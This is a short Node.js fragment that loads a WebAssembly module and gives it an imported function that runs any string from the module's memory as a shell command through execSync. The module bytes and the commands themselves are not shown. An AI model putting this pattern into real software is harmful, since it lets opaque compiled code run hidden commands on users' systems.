const { execSync } = require("child_process");
const text = (at) => Buffer.from(one.exports.memory.buffer, at, 64).toString();
const one = new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { x: (at) => execSync(text(at)) } });
